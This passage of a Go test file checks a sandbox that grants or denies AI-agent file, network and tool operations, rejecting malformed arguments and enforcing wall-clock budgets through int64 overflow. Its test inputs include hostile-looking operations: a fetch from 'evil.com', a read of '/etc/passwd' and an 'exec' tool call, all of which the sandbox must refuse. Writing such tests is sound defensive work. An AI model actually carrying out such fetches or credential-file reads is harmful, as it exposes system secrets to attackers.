		// Malformed wins over a denial that would follow.
		op("net_fetch", "evil.com", "/\x00"), op("fs_read", "/etc/passwd\xff"), op("tool", "exec", "\x00"),
	}
	// NUL and invalid UTF-8 in every argument position of every kind.
	valid := []core.Op{
		op("fs_read", "/work/a"), op("fs_write", "/work/b", "d"),
		op("net_fetch", "api.internal", "/"), op("tool", "echo", "in"),
	}
	bad := []string{"\x00", "/work/\x00a", "\xff", "\xc0\xaf", "\xed\xa0\x80", "\xe2\x82", "é\xff", "é\x00", "\x80"}
	for _, v := range valid {
		for i := range v.Args {
			for _, s := range bad {
				args := slices.Clone(v.Args)
				args[i] = s
				ops = append(ops, core.Op{Kind: v.Kind, Args: args})
				args = slices.Clone(v.Args)
				args[i] += s
				ops = append(ops, core.Op{Kind: v.Kind, Args: args})
			}
		}
	}
	for i, o := range ops {
		b.run(t, o, soft(core.MalformedOp))
		if got := b.s.Usage().Ops; got != int64(i+1) {
			t.Errorf("after %s: Usage().Ops = %d, want %d: malformed ops are charged", fmtOp(o), got, i+1)
		}
	}
	b.wantJournal(t)
	if b.w.Fingerprint() != fp {
		t.Errorf("a malformed op changed the VFS")
	}
	// Controls: valid non-ASCII arguments are well-formed.
	b.run(t, op("fs_read", "/work/café"), soft(core.NotFound))
	b.run(t, op("tool", "echo", "héllo ☃"), ok("héllo ☃"))
	b.wantJournal(t, "realpath /work/café -> /work/café", "read /work/café", "call echo \"héllo ☃\"")
}

func TestTools(t *testing.T) {
	b := newBox(t, core.GrantSpec{Tools: []string{"echo", "summarize", "ghost", "weather"}, Budgets: defaultBudgets},
		scenario.WorldSpec{ToolOutputs: []scenario.ToolOutput{{Name: "weather", Output: "sunny"}}, Clock: defaultClock})
	b.run(t, op("tool", "echo", "hello"), ok("hello"))
	b.run(t, op("tool", "echo", ""), ok(""))
	b.run(t, op("tool", "summarize", "hello"), ok("summary of 5 bytes"))
	b.run(t, op("tool", "summarize", "héllo"), ok("summary of 6 bytes")) // bytes, not runes
	b.run(t, op("tool", "summarize", ""), ok("summary of 0 bytes"))
	b.run(t, op("tool", "weather", "paris"), ok("sunny"))
	b.run(t, op("tool", "ghost", "boo"), soft(core.NotFound))
	for _, name := range []string{"ECHO", "Echo", "echo ", " echo", "echo\t", "echo.", "Summarize", "exec", "", "echo\u200b"} {
		b.run(t, op("tool", name, "x"), soft(core.ToolDenied))
	}
	b.wantJournal(t,
		"call echo hello", `call echo ""`,
		"call summarize hello", "call summarize héllo", `call summarize ""`,
		"call weather paris", "call ghost boo",
	)
	b.wantUsage(t, core.Usage{Ops: 17, Wall: 17, Output: int64(5 + 0 + 18 + 18 + 18 + 5)})

	t.Run("ToolOutput overrides a built-in", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{Tools: []string{"echo", "summarize"}, Budgets: defaultBudgets},
			scenario.WorldSpec{ToolOutputs: []scenario.ToolOutput{{Name: "echo", Output: "canned"}, {Name: "summarize", Output: ""}}, Clock: defaultClock})
		b.run(t, op("tool", "echo", "in"), ok("canned"))
		b.run(t, op("tool", "summarize", "in"), ok(""))
		b.wantJournal(t, "call echo in", "call summarize in")
	})
	t.Run("a world tool that is not granted", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{Tools: []string{"summarize"}, Budgets: defaultBudgets}, scenario.WorldSpec{Clock: defaultClock})
		b.run(t, op("tool", "echo", "in"), soft(core.ToolDenied))
		b.wantJournal(t)
	})
}

// TestWallBudgetWithHugeClocks checks that wall budgets still halt when the
// clock's answers reach the ends of int64: neither the clock nor Now-t0 may
// wrap around into a small or negative wall.
func TestWallBudgetWithHugeClocks(t *testing.T) {
	const maxI, minI = math.MaxInt64, math.MinInt64
	grant := func(maxWall int64) core.GrantSpec {
		return core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 100, MaxWall: maxWall, MaxOutputBytes: 100}}
	}
	worldAt := func(c scenario.TickClock) scenario.WorldSpec {
		return scenario.WorldSpec{Files: []scenario.File{{Path: "/work/a", Data: "x"}}, Clock: c}
	}
	read := op("fs_read", "/work/a")
	t.Run("step MaxInt64", func(t *testing.T) {
		b := newBox(t, grant(1000000), worldAt(scenario.TickClock{Start: 0, Step: maxI}))
		b.run(t, read, hard(core.MaxWall))
		b.wantUsage(t, core.Usage{Ops: 1, Wall: maxI})
	})
	t.Run("saturating third tick", func(t *testing.T) {
		b := newBox(t, grant(maxI-20), worldAt(scenario.TickClock{Start: 10, Step: maxI / 3}))
		b.run(t, read, ok("x"))
		b.run(t, read, ok("x"))
		b.run(t, read, hard(core.MaxWall)) // the true tick 10+3·(MaxInt64/3) is past the top
		b.wantUsage(t, core.Usage{Ops: 3, Wall: maxI, Output: 2})
	})
	t.Run("negative start", func(t *testing.T) {
		b := newBox(t, grant(1), worldAt(scenario.TickClock{Start: -1, Step: 1}))
		b.run(t, read, ok("x")) // t0 = -1, now 0: wall 1
		b.wantUsage(t, core.Usage{Ops: 1, Wall: 1, Output: 1})
		b.run(t, read, hard(core.MaxWall)) // now 1: wall 2
		b.wantUsage(t, core.Usage{Ops: 2, Wall: 2, Output: 1})
	})
	t.Run("start MinInt64, step MaxInt64", func(t *testing.T) {
		b := newBox(t, grant(1000000), worldAt(scenario.TickClock{Start: minI, Step: maxI}))
		b.run(t, read, hard(core.MaxWall)) // now -1: wall MaxInt64
		b.wantUsage(t, core.Usage{Ops: 1, Wall: maxI})
	})
	t.Run("wall past MaxInt64 with the largest budget", func(t *testing.T) {
		b := newBox(t, grant(maxI), worldAt(scenario.TickClock{Start: -10, Step: maxI}))
		b.run(t, read, ok("x"))            // now MaxInt64-10: wall MaxInt64, on the cap
		b.run(t, read, hard(core.MaxWall)) // now saturates at MaxInt64: the true wall is MaxInt64+10
	})
	// SPEC §7: a tick that would pass 2^63−1 is past every wall budget, the
	// largest one included, however small now - t0 looks once saturated; a
	// tick of exactly 2^63−1 is a tick like any other.
	t.Run("a tick past the top halts the largest budget", func(t *testing.T) {
		b := newBox(t, grant(maxI), worldAt(scenario.TickClock{Start: 0, Step: maxI}))
		b.run(t, read, ok("x")) // now MaxInt64 exactly: wall MaxInt64, on the cap
		b.wantUsage(t, core.Usage{Ops: 1, Wall: maxI, Output: 1})
		b.run(t, read, hard(core.MaxWall)) // 2·MaxInt64 is past the top
		b.wantUsage(t, core.Usage{Ops: 2, Wall: maxI, Output: 1})
		b.run(t, read, hard(core.MaxWall)) // latched
	})
	t.Run("a tick past the top halts even when the saturated wall is 0", func(t *testing.T) {
		b := newBox(t, grant(maxI), worldAt(scenario.TickClock{Start: maxI, Step: 1}))
		b.run(t, read, hard(core.MaxWall)) // t0 MaxInt64, then MaxInt64+1: past the top
		b.wantUsage(t, core.Usage{Ops: 1, Wall: maxI})
	})
	t.Run("landing exactly on the top, then past it", func(t *testing.T) {
		b := newBox(t, grant(5), worldAt(scenario.TickClock{Start: maxI - 1, Step: 1}))
		b.run(t, read, ok("x")) // now MaxInt64: wall 1
		b.wantUsage(t, core.Usage{Ops: 1, Wall: 1, Output: 1})
		b.run(t, read, hard(core.MaxWall)) // now MaxInt64+1: past the top, though the wall would be 2
	})
	t.Run("a clock stopped at the top is never past it", func(t *testing.T) {
		b := newBox(t, grant(0), worldAt(scenario.TickClock{Start: maxI, Step: 0}))
		for range 5 {
			b.run(t, read, ok("x")) // now MaxInt64 every time: wall 0
		}
		b.wantUsage(t, core.Usage{Ops: 5, Wall: 0, Output: 5})
	})
	t.Run("a clock running backwards never exceeds the wall", func(t *testing.T) {
		b := newBox(t, grant(0), worldAt(scenario.TickClock{Start: 10, Step: minI}))
		b.run(t, read, ok("x")) // wall MinInt64
		b.run(t, read, ok("x")) // the true wall is below MinInt64: must not wrap positive
		b.run(t, read, ok("x"))
	})
}
